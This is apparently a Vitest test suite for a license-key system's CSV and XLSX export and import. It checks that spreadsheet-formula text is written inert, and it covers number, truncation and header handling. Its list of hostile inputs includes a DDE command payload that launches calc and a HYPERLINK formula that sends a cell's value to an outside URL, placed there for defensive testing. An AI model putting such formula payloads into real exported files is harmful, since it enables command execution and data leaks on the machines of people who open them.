import { describe, expect, it } from 'vitest';
import { addKey } from '../harness/arrange.ts';
import { csvCells, csvRows, download, xlsxRows } from '../harness/files.ts';
import { engines, newWorld } from '../harness/world.ts';

const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?q="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  "'=1+1",
  "''@x",
  'a,=1+1',
  'a;=1+1',
  'a\t=1+1',
  'x\n=1+1',
  'say "=1+1"',
  '"',
  "'quoted'",
  '＝1+1',
  '-12',
  '1e5',
  '007',
  'TRUE',
  '2026-11-21',
  '_x003D_1',
  '<f>1+1</f>&amp;]]>',
  'ends with a backslash\\',
];

describe.each(engines)('hostile texts in files on %s', async (engine) => {
  const world = await newWorld(engine);

  it('X3: a text that looks like a formula is written inert, and read back as it was (security 46)', async () => {
    const attribute = { recordType: 'key', name: 'evil', kind: 'text', labelEn: '=1+1', labelDe: '@x' };
    expect((await world.admin('POST', '/attributes', attribute)).status).toBe(201);
    for (const [i, text] of hostile.entries()) {
      const line = text.replaceAll(/[\n\t]/g, ' ');
      await addKey(world, {
        remarks: text,
        code: line,
        productName: `${line} ${i}`,
        seats: i + 1,
        attributes: { evil: line },
      });
    }
    const query = 'columns=remarks,code,product,attributes.evil&sort=seats';
    for (const [lang, delimiter] of [
      ['en', ','],
      ['de', ';'],
    ]) {
      const csv = await download(world, `/keys/export?${query}&lang=${lang}`);
      const cells = csvCells(csv, delimiter).flat();
      expect(cells).toHaveLength((hostile.length + 1) * 6);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      // Quoted cells stay whole for a reader that splits at every usual delimiter.
      expect(csv.bytes.toString().split('\r\n')[1]).toMatch(/^"[^"]+","\d+"|^"[^"]+";"\d+"/);
      const expected = hostile.map((text, i) => {
        const line = text.replaceAll(/[\n\t]/g, ' ');
        return [text, line, `${line} ${i}`, line];
      });
      const [header, ...rows] = csvRows(csv, delimiter).map((row) => row.slice(2));
      expect(header?.[3]).toBe(lang === 'de' ? '@x' : '=1+1');
      expect(rows).toEqual(expected);
      const xlsx = await xlsxRows(await download(world, `/keys/export?${query}&lang=${lang}&format=xlsx`));
      expect(xlsx.map((row) => row.slice(2))).toEqual([header, ...expected]);
    }
  });

  it('X1, X3: an import takes away what made a text inert', async () => {
    const form = new FormData();
    form.set('kind', 'keys');
    const lines = [`"'-KEY-12345-67890","Atlas","'=1+1"`, `"KEY-12345-67890-X","Atlas","''@x"`];
    form.set('file', new File([`licenseKey,productName,remarks\n${lines.join('\n')}`], 'keys.csv'));
    expect((await world.admin('POST', '/imports', form)).status).toBe(201);
    const { body } = await world.admin('GET', '/keys?product=Atlas&sort=remarks');
    expect(body.items.map((key: { remarks: string }) => key.remarks)).toEqual(["'@x", '=1+1']);
    expect(body.items[1].maskedKey).toMatch(/^-/);
  });

  it('X3: a number below zero is a number, and a text of more than a cell holds is cut in XLSX alone', async () => {
    const license = { productName: 'Overdrawn', quantity: 0 };
    const { body } = await world.admin('POST', '/licenses', license);
    const key = await addKey(world, { licenseId: body.id, seats: 1 });
    await world.admin('POST', `/keys/${key.id}/assignments`, { userName: 'Anna' });
    const csv = await download(world, '/licenses/export?columns=free');
    expect(csvCells(csv)[1]?.[2]).toBe('-1');
    for (const letter of ['ä', 'ö']) {
      const text = letter.repeat(9999);
      await world.admin('PATCH', `/keys/${key.id}`, { remarks: text, termsOfUse: text }, { 'if-match': '*' });
    }
    const query = `subject=key:${key.id}&columns=details&action=key.updated`;
    const [, [, details = ''] = []] = csvRows(await download(world, `/audit/export?${query}`));
    expect(details.length).toBeGreaterThan(4 * 9999);
    const [, [, cut = ''] = []] = await xlsxRows(await download(world, `/audit/export?${query}&format=xlsx`));
    expect([cut.length, cut]).toEqual([32_767, `${details.slice(0, 32_766)}…`]);
  });

  it('X3: attributes called like a field keep a header of their own', async () => {
    const attribute = { recordType: 'equipment', name: 'state', kind: 'text', labelEn: 'Status', labelDe: 'Name' };
    await world.admin('POST', '/attributes', attribute);
    const en = csvRows(await download(world, '/equipment/export?columns=status,attributes.state'));
    expect(en[0]).toEqual(['Internal ID', 'Version', 'Status', 'Status (attributes.state)']);
    const de = csvRows(await download(world, '/equipment/export?columns=status,attributes.state&lang=de'), ';');
    expect(de[0]).toEqual(['Interne ID', 'Version', 'Status', 'Name']);
  });
});
